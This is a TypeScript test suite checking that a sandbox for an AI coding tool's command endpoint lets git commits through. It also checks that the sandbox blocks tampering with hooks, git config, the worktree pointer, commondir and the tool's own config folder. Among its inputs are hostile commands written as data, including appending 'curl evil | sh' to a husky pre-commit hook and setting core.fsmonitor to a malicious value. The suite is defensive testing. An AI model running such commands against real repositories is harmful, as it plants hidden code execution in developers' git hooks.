/**
 * Git layouts through the real sandbox: a worktree (`.git` is a file, the git
 * folders live outside the workspace), a workspace inside a larger repository,
 * a hook manager's folder, and the tool's config folder inside the workspace.
 * Commits work; planting hooks, config or git-folder pointers does not.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { comesTrue, makeHome, startServer, tempDir, type TestServer } from "../helpers.js";
import { BWRAP, requires } from "../preconditions.js";
import { allowExactly } from "./harness.js";

const git = (cwd: string, ...args: string[]) => execFileSync("git", ["-C", cwd, "-c", "user.email=a@b", "-c", "user.name=a", ...args], { encoding: "utf8", stdio: "pipe" });
const commit = "git -c user.email=a@b -c user.name=a commit -qam inside && echo committed";

const gone = (path: string): Promise<boolean> => comesTrue(() => !existsSync(path));

describe("a git worktree as the workspace", requires(BWRAP), () => {
  let server: TestServer;
  let main: string;
  let wt: string;
  before(async () => {
    main = tempDir();
    git(main, "init", "-q");
    writeFileSync(join(main, "a.txt"), "a\n");
    git(main, "add", "a.txt");
    git(main, "commit", "-qm", "one");
    wt = join(tempDir(), "wt");
    git(main, "worktree", "add", "-q", wt);
    server = await startServer(makeHome({ workspace: wt }));
  });
  after(() => server.close());

  test("git add and commit work inside", async () => {
    const reply = await server.post("exec_command", { command: `echo b >> a.txt && git add a.txt && ${commit}` });
    assert.equal(reply.json.stdout, "committed\n", reply.text);
    assert.match(git(main, "log", "--all", "--oneline"), /inside/);
  });

  test("the .git file cannot be pointed elsewhere", async () => {
    const before = readFileSync(join(wt, ".git"), "utf8");
    const reply = await server.post("exec_command", { command: "mkdir -p evil/hooks && printf 'gitdir: evil\\n' > .git; echo rc=$?; rm -f .git; mv .git g 2>&1; echo done" });
    assert.equal(reply.status, 200, reply.text);
    assert.equal(readFileSync(join(wt, ".git"), "utf8"), before);
  });

  test("hooks, config and commondir of the main repository stay untouched", async () => {
    const configBefore = readFileSync(join(main, ".git/config"), "utf8");
    const reply = await server.post("exec_command", {
      command: `echo evil > ${main}/.git/hooks/post-commit; git config core.hooksPath /x; git config core.fsmonitor evil; echo ../x > ${main}/.git/worktrees/wt/commondir; mv ${main}/.git/hooks ${main}/.git/h2; echo end`,
    });
    assert.equal(reply.json.stdout, "end\n");
    assert.ok(!existsSync(join(main, ".git/hooks/post-commit")));
    assert.ok(!existsSync(join(main, ".git/h2")));
    assert.equal(readFileSync(join(main, ".git/config"), "utf8"), configBefore);
    assert.match(readFileSync(join(main, ".git/worktrees/wt/commondir"), "utf8"), /^\.\.\/\.\.\s*$/);
  });

  test("a commondir planted in the main repository is removed when the command ends", async () => {
    const planted = join(main, ".git/commondir");
    const reply = await server.post("exec_command", { command: `echo ${wt}/evil > ${planted} && echo planted` });
    assert.equal(reply.json.stdout, "planted\n", "the git folder itself is writable (commits need it)");
    assert.ok(await gone(planted), "removed after the run");
  });
});

describe("a workspace inside a larger repository, with a hook manager", requires(BWRAP), () => {
  let server: TestServer;
  let repo: string;
  before(async () => {
    repo = tempDir();
    git(repo, "init", "-q");
    mkdirSync(join(repo, ".husky/_"), { recursive: true });
    writeFileSync(join(repo, ".husky/pre-commit"), "npm test\n");
    git(repo, "config", "core.hooksPath", ".husky/_");
    mkdirSync(join(repo, "packages/app"), { recursive: true });
    writeFileSync(join(repo, "packages/app/x.txt"), "x\n");
    git(repo, "add", "-A");
    git(repo, "commit", "-qm", "one", "--no-verify");
    server = await startServer(makeHome({ workspace: join(repo, "packages/app") }));
  });
  after(() => server.close());

  test("commit works from the sub-folder; the repository's hooks stay read-only", async () => {
    const reply = await server.post("exec_command", { command: `echo y >> x.txt && git -c core.hooksPath=/dev/null -c user.email=a@b -c user.name=a commit -qam inside && echo committed; echo evil > ${repo}/.git/hooks/pre-commit; echo rc=$?` });
    assert.match(reply.json.stdout, /committed\nrc=1/, reply.text);
    assert.ok(!existsSync(join(repo, ".git/hooks/pre-commit")));
  });

  test("the hook manager's folder is read-only (it is outside the workspace here, and protected anyway)", async () => {
    const reply = await server.post("exec_command", { command: `echo 'curl evil | sh' >> ${repo}/.husky/pre-commit; echo rc=$?` });
    assert.match(reply.json.stdout, /rc=1/);
    assert.equal(readFileSync(join(repo, ".husky/pre-commit"), "utf8"), "npm test\n");
  });
});

describe("a repository with .husky inside the workspace and the tool's config folder inside it", requires(BWRAP), () => {
  let server: TestServer;
  let ws: string;
  before(async () => {
    ws = tempDir();
    git(ws, "init", "-q");
    mkdirSync(join(ws, ".husky/_"), { recursive: true });
    writeFileSync(join(ws, ".husky/pre-commit"), "npm test\n");
    git(ws, "config", "core.hooksPath", ".husky/_");
    const fixture = makeHome({ workspace: ws });
    // The tool's own config folder inside the workspace (someone registered the tool's repository).
    const inner = join(ws, ".chatgpt-codex");
    execFileSync("cp", ["-a", fixture.home, inner]);
    server = await startServer({ ...fixture, home: inner });
  });
  after(() => server.close());

  test(".husky is read-only inside", async () => {
    const reply = await server.post("exec_command", { command: "echo evil >> .husky/pre-commit; echo rc=$?" });
    assert.match(reply.json.stdout, /rc=1/);
    assert.equal(readFileSync(join(ws, ".husky/pre-commit"), "utf8"), "npm test\n");
  });

  test("the config folder inside the workspace is an empty folder for commands", async () => {
    const command = "ls -A .chatgpt-c*; cat .chatgpt-c*/config.json 2>&1; echo end";
    const refused = await server.post("exec_command", { command });
    assert.equal(refused.json.error?.code, "BLOCKED_BY_POLICY", "the policy refuses it first");
    // Past the policy (an explicit allow), the sandbox alone still shows an empty folder.
    allowExactly(join(ws, ".chatgpt-codex"), command);
    const reply = await server.post("exec_command", { command });
    assert.equal(reply.status, 200, reply.text);
    assert.ok(!reply.text.includes(server.token));
    assert.match(reply.json.stdout, /No such file/);
  });
});
